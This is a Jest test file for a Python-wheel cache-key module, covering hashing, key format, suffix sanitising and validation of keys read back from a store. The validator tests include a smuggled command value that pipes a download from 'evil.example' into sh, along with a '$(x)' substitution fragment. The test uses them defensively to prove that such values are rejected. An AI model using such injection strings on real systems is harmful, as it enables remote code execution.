import { createHash } from 'node:crypto';
import { describe, expect, it } from '@jest/globals';
import {
  CACHE_KEY_DIGEST_LENGTH,
  CacheKeyError,
  cacheKey,
  cacheKeyPrefix,
  isCacheKey,
  resolutionHash,
  shownForeignKey,
} from '../../src/cache/cache-key.js';
import type { Resolution } from '../../src/provider/resolution.js';
import { resolutionOf, sha256Of, type FileSpec } from '../helpers/resolutions.js';

const target = { os: 'linux', arch: 'x64', implementation: 'cp', pythonVersion: '3.12' };

const specs: FileSpec[] = [
  { name: 'requests', version: '2.32.3', bytes: new TextEncoder().encode('requests wheel') },
  { name: 'idna', version: '3.7', bytes: new TextEncoder().encode('idna wheel') },
  { name: 'urllib3', version: '2.2.2', bytes: new TextEncoder().encode('urllib3 wheel') },
];

describe('resolutionHash', () => {
  it('is the sha256 of the sorted "<filename> <sha256>\\n" lines', () => {
    const resolution = resolutionOf(specs);
    const lines = resolution.packages.map((p) => `${p.file.filename} ${p.file.sha256}\n`).sort();
    const expected = createHash('sha256').update(lines.join('')).digest('hex');
    expect(resolutionHash(resolution)).toBe(expected);
  });

  it('ignores package order, URLs (with credentials), index, metadata path and flags', () => {
    const a = resolutionOf(specs);
    const b: Resolution = {
      packages: [...resolutionOf(specs).packages].reverse().map((p) => ({
        ...p,
        requested: !p.requested,
        metadataPath: 'lazy-wheel' as const,
        file: {
          ...p.file,
          url: `https://user:s3cret@mirror.example.invalid/pkgs/${p.file.filename}`,
          redactedUrl: `https://mirror.example.invalid/pkgs/${p.file.filename}`,
        },
      })),
    };
    expect(resolutionHash(b)).toBe(resolutionHash(a));
    expect(cacheKey(b, target).key).not.toContain('s3cret');
  });

  it('treats upper-case hex digests like lower-case ones', () => {
    const a = resolutionOf(specs);
    const b: Resolution = {
      packages: a.packages.map((p) => ({ ...p, file: { ...p.file, sha256: p.file.sha256.toUpperCase() } })),
    };
    expect(resolutionHash(b)).toBe(resolutionHash(a));
  });

  it('changes when one file changes (version bump or different bytes)', () => {
    const base = resolutionHash(resolutionOf(specs));
    const bumped = specs.map((s) => (s.name === 'idna' ? { ...s, version: '3.8' } : s));
    const rebuilt = specs.map((s) =>
      s.name === 'idna' ? { ...s, bytes: new TextEncoder().encode('other') } : s,
    );
    expect(resolutionHash(resolutionOf(bumped))).not.toBe(base);
    expect(resolutionHash(resolutionOf(rebuilt))).not.toBe(base);
    expect(resolutionHash(resolutionOf(specs.slice(1)))).not.toBe(base);
  });

  it('rejects a file without a valid sha256, naming it', () => {
    const bad = resolutionOf(specs);
    bad.packages[0]!.file.sha256 = 'abc';
    expect(() => resolutionHash(bad)).toThrow(CacheKeyError);
    expect(() => resolutionHash(bad)).toThrow(bad.packages[0]!.file.filename);
  });
});

describe('cacheKey', () => {
  it('has the documented shape and the restore prefix is the key without the digest', () => {
    const resolution = resolutionOf(specs);
    const k = cacheKey(resolution, target);
    expect(k.restorePrefix).toBe('wheelhouse-v1-linux-x64-cp312-');
    expect(k.key).toBe(k.restorePrefix + resolutionHash(resolution).slice(0, CACHE_KEY_DIGEST_LENGTH));
    expect(k.key).toMatch(/^wheelhouse-v1-linux-x64-cp312-[0-9a-f]{32}$/);
    expect(k.resolutionHash).toBe(resolutionHash(resolution));
  });

  it('keeps only major.minor of the Python version', () => {
    const r = resolutionOf(specs);
    expect(cacheKey(r, { ...target, pythonVersion: '3.12.4' }).key).toBe(cacheKey(r, target).key);
    expect(cacheKey(r, { ...target, pythonVersion: '3.11' }).key).not.toBe(cacheKey(r, target).key);
    expect(() => cacheKey(r, { ...target, pythonVersion: 'three' })).toThrow(/"three"/);
  });

  it('separates targets: no prefix of one target matches another target key', () => {
    const r = resolutionOf(specs);
    const keys = [
      cacheKey(r, target),
      cacheKey(r, { ...target, os: 'musllinux' }),
      cacheKey(r, { ...target, arch: 'arm64' }),
      cacheKey(r, { ...target, implementation: 'pp' }),
      cacheKey(r, { ...target, pythonVersion: '3.1' }),
    ];
    for (const a of keys)
      for (const b of keys) if (a !== b) expect(b.key.startsWith(a.restorePrefix)).toBe(false);
  });

  it('puts a sanitized suffix before the digest, with no commas or dashes', () => {
    const r = resolutionOf(specs);
    const k = cacheKey(r, target, ' team,a-b c ');
    expect(k.restorePrefix).toBe('wheelhouse-v1-linux-x64-cp312_team_a_b_c-');
    expect(k.key).not.toContain(',');
    expect(k.key.startsWith(k.restorePrefix)).toBe(true);
  });

  it('isolates suffixes from each other and from no suffix', () => {
    const r = resolutionOf(specs);
    const plain = cacheKey(r, target);
    const a = cacheKey(r, target, 'a');
    const ab = cacheKey(r, target, 'a-b');
    const all = [plain, a, ab];
    for (const x of all)
      for (const y of all) if (x !== y) expect(y.key.startsWith(x.restorePrefix)).toBe(false);
    expect(cacheKeyPrefix(target, '')).toBe(plain.restorePrefix);
  });

  it('rejects a suffix that would push the key over 512 characters', () => {
    const r = resolutionOf(specs);
    expect(cacheKey(r, target, 'x'.repeat(400)).key.length).toBeLessThanOrEqual(512);
    expect(() => cacheKey(r, target, 'x'.repeat(480))).toThrow(CacheKeyError);
    expect(() => cacheKey(r, target, 'x'.repeat(480))).toThrow(/limit 512/);
  });

  it('rejects empty target parts', () => {
    expect(() => cacheKeyPrefix({ ...target, os: ' ' })).toThrow(/os is empty/);
  });

  it('gives an empty resolution a stable key (sha256 of nothing)', () => {
    expect(resolutionHash({ packages: [] })).toBe(sha256Of(''));
  });
});

// Review 2 (s12) #6: a key read back from a store is accepted only when it is one cacheKey makes.
describe('isCacheKey', () => {
  it('accepts every key cacheKey makes, for odd targets and suffixes too', () => {
    const r = resolutionOf(specs);
    const targets = [
      target,
      { os: 'Windows', arch: 'AMD64', implementation: 'PP', pythonVersion: '3.10.2' },
      { os: 'mac os', arch: 'arm64', implementation: 'gp', pythonVersion: '10.0' },
      { os: 'lïnux', arch: 'x.6_4', implementation: 'c-p', pythonVersion: '3.9' },
    ];
    for (const t of targets)
      for (const suffix of [undefined, '', 'a', ' team,a-b c ', 'Ünïcode`$(x)\n', 'x'.repeat(400)]) {
        const k = cacheKey(r, t, suffix);
        expect([k.key, isCacheKey(k.key)]).toEqual([k.key, true]);
      }
  });

  it('refuses any other text: control characters, backticks, spaces, a wrong digest, an over-long key', () => {
    const k = cacheKey(resolutionOf(specs), target).key;
    const prefix = k.slice(0, -CACHE_KEY_DIGEST_LENGTH);
    for (const text of [
      '',
      `${k}\n`,
      `${prefix}x\` "; curl https://evil.example | sh`,
      `${prefix}${'A'.repeat(CACHE_KEY_DIGEST_LENGTH)}`,
      `${prefix}${'0'.repeat(CACHE_KEY_DIGEST_LENGTH - 1)}`,
      `${prefix}${'0'.repeat(CACHE_KEY_DIGEST_LENGTH + 1)}`,
      k.replace('-v1-', '-v2-'),
      k.replace('cp312', 'cp 312'),
      k.replace('linux', 'linux\u0000'),
      `wheelhouse-v1-linux-x64-cp312_${'x'.repeat(470)}-${'0'.repeat(CACHE_KEY_DIGEST_LENGTH)}`,
    ])
      expect([text, isCacheKey(text)]).toEqual([text, false]);
  });

  it('shows a foreign key quoted and at most 100 characters long', () => {
    expect(shownForeignKey('a\nb`')).toBe('"a\\nb`"');
    expect(shownForeignKey('x'.repeat(5000))).toBe(`"${'x'.repeat(100)}"…`);
  });
});
